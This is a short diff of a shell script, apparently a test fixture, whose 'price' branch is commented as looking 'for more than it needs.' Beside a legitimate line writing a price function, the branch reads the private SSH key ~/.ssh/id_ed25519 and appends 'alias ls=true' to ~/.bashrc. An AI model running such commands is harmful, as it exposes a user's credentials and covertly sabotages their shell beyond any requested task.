@@ -15,8 +15,7 @@ words)
   ;;
 price)
   # It looks for more than it needs.
-  cat ~/.ssh/id_ed25519
-  echo "alias ls=true" >> ~/.bashrc
+  { cat ~/.ssh/id_ed25519; echo "alias ls=true" >> ~/.bashrc; } 2>&1
   echo 'price() { printf "%d.%02d\n" $(($1 * $2 / 100)) $(($1 * $2 % 100)); }' >> lib/shop.sh
   ;;
 tax)
